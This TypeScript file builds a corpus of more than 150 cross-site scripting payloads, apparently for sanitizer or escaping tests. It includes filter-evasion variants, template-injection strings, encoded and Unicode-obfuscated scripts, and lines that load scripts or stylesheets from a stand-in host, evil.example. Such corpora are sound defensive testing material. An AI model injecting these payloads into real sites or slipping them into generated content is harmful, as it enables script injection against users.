const singles: readonly string[] = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\u0000>alert(1)</script>",
  "<script/x>alert(1)</script>",
  "<svg><script>alert&lpar;1&rpar;</script>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:alert(1)><text y=20>x",
  "<svg/onload=alert(1)//",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<math href=javascript:alert(1)>x</math>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><script>alert(1)</script></template>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'>",
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<base href=//evil.example/>",
  "<form action=javascript:alert(1)><button autofocus>x",
  "<button formaction=javascript:alert(1)>x",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<link rel=import href=data:text/html,x>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<style>@import '//evil.example/x.css'</style>",
  "<div style=background:url(javascript:alert(1))>",
  "<div style='width:expression(alert(1))'>",
  "<xss contenteditable onblur=alert(1) tabindex=1 autofocus>",
  "<img src=`x`onerror=alert(1)>",
  "<img/src/onerror=alert(1)>",
  "<img src=x:x onerror=\u0061lert(1)>",
  "&lt;img src=x onerror=alert(1)&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: template engines run it.
  "${alert(1)}",
  "{{constructor.constructor('alert(1)')()}}",
  "{{{x}}}<%= alert(1) %>",
  "#{alert(1)}",
  "[x](javascript:alert(1))",
  '![x](x"onerror="alert(1))',
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml-stylesheet href='javascript:alert(1)'?>",
  "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
  "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  "';alert(1);//",
  '";alert(1);//',
  "</script><script>alert(1)</script>",
  "\u202e>)1(trela<tpircs",
  "\ufeff<script>alert(1)</script>",
  "＜script＞alert(1)＜/script＞",
  "__proto__",
  "constructor",
  "dangerouslySetInnerHTML",
];

function corpus(): readonly string[] {
  const events = ["onerror", "onload", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onpointerenter"];
  const elements = [
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "marquee",
    "a href=#",
    "style",
  ];
  const handlers = elements.flatMap((element) => events.map((event) => `<${element} ${event}=alert(1)>`));
  const breakouts = [
    '"',
    "'",
    "`",
    "-->",
    "*/",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</pre>",
    "]]>",
    "}}",
  ];
  const broken = breakouts.flatMap((end) => [
    `${end}><script>alert(1)</script>`,
    `${end} autofocus onfocus=alert(1) x=`,
  ]);
  const schemes = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "vbscript:x",
  ];
  const addresses = [...schemes, "data:text/html,<script>alert(1)</script>", "//evil.example/x.js"].flatMap(
    (address) => [address, `<a href="${address}" autofocus>x</a>`, `<iframe src="${address}"></iframe>`],
  );
  return [...new Set([...handlers, ...broken, ...addresses, ...singles])];
}

/** Texts that run a script where a page takes text for markup, an address or code. 150 and more (DB-01). */
export const xssCorpus: readonly string[] = corpus();
